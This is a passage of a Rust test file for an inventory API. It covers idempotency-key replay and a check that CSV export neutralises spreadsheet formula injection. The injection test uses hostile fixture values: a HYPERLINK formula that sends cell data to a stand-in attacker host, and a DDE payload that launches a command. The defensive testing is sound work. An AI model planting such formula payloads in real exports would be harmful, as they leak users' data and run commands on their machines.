    .expect_problem(422);

    let product = json!({"sku": "K-1", "name": "Keyed", "price_cents": 100, "initial_stock": 4});
    let made = post_keyed(&inv, "/api/products", "prod-1", &product)
        .await
        .expect(201);
    let remade = post_keyed(&inv, "/api/products", "prod-1", &product)
        .await
        .expect(201);
    assert_eq!(remade.body["id"], made.body["id"]);
    assert_eq!(remade.header("etag"), Some("\"1\""));
    assert_eq!(remade.header("idempotent-replayed"), Some("true"));
    // Without a key the duplicate SKU is the ordinary 409: nothing was created twice.
    inv.post("/api/products", product.clone())
        .await
        .expect_problem(409);
    // A keyed duplicate keeps its 409 (on PostgreSQL the failed INSERT is undone to a
    // savepoint, so the answer can still be written in the same transaction).
    post_keyed(&inv, "/api/products", "prod-2", &product)
        .await
        .expect_problem(409);
    let kept = post_keyed(&inv, "/api/products", "prod-2", &product)
        .await
        .expect_problem(409);
    assert_eq!(kept.header("idempotent-replayed"), Some("true"));
    assert_eq!(kept.problem_type(), "/problems/duplicate-sku");
    // The same key on another route is another request: 422, not the product.
    post_keyed(&inv, "/api/suppliers", "prod-1", &supplier)
        .await
        .expect_problem(422);

    let csv = "sku,name,price_cents,initial_stock\nIMP-1,Imported,100,5\n";
    let import = |key: &'static str, body: &'static str| {
        Api::send(
            inv.request(Method::POST, "/api/products/import")
                .header("idempotency-key", key)
                .header("content-type", "text/csv")
                .body(body),
        )
    };
    let report = import("imp-1", csv).await.expect(200);
    assert_eq!(report.body, json!({"created": 1, "updated": 0}));
    let replay = import("imp-1", csv).await.expect(200);
    assert_eq!(
        replay.body, report.body,
        "the first report, not `updated: 1`"
    );
    let imported = inv.get("/api/products?q=IMP-1").await.expect(200);
    assert_eq!(
        imported.body["items"][0]["version"], 1,
        "not imported twice"
    );
    import("imp-1", "sku,name,price_cents\nIMP-2,Other,1\n")
        .await
        .expect_problem(422);
}

/// The cells of one CSV line (RFC 4180 quoting; these tests write no line breaks in cells).
fn csv_cells(line: &str) -> Vec<String> {
    let (mut cells, mut cell, mut quoted) = (Vec::new(), String::new(), false);
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            ('"', _) => quoted = !quoted,
            (',', false) => cells.push(std::mem::take(&mut cell)),
            _ => cell.push(c),
        }
    }
    cells.push(cell);
    cells
}

#[tokio::test]
async fn export_neutralises_formula_cells_and_import_restores_them() {
    let (sys, _, staff, _) = system().await;
    let inv = sys.api(Svc::Inventory).with_token(&staff.token);
    let names = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "'=already quoted",
        "Plain tea",
    ];
    for (i, name) in names.iter().enumerate() {
        inv.post(
            "/api/products",
            json!({"sku": format!("F-{i}"), "name": name, "category": "=cmd|' /C calc'!A0",
                   "price_cents": 100 + i, "initial_stock": i}),
        )
        .await
        .expect(201);
    }
    let export = Api::send(inv.request(Method::GET, "/api/products/export"))
        .await
        .expect(200);
    let rows: Vec<Vec<String>> = export.text.lines().skip(1).map(csv_cells).collect();
    assert_eq!(rows.len(), names.len());
    let triggers = ['=', '+', '-', '@', '\t', '\r'];
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(triggers),
                "formula cell exported: {cell:?}"
            );
        }
    }
    for (row, name) in rows.iter().zip(names) {
        let expected = if name == "Plain tea" {
            name.to_string()
        } else {
            format!("'{name}")
        };
        assert_eq!(row[1], expected);
        assert_eq!(row[3], "'=cmd|' /C calc'!A0");
        // Numbers stay numbers.
        assert!(row[5].parse::<i64>().is_ok(), "price {:?}", &row[5]);
    }
    // Importing the export gives the names back exactly.
    let again = inv
        .post_raw("/api/products/import", "text/csv", export.text)
        .await
        .expect(200);
    assert_eq!(again.body, json!({"created": 0, "updated": names.len()}));
    let listed = inv.get("/api/products?limit=100").await.expect(200);
    let mut stored: Vec<String> = listed.body["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| {
            assert_eq!(p["category"], "=cmd|' /C calc'!A0");
            p["name"].as_str().unwrap().to_string()
        })
        .collect();
    stored.sort();
    let mut expected: Vec<String> = names.iter().map(|n| n.to_string()).collect();
    expected.sort();
    assert_eq!(stored, expected);
}
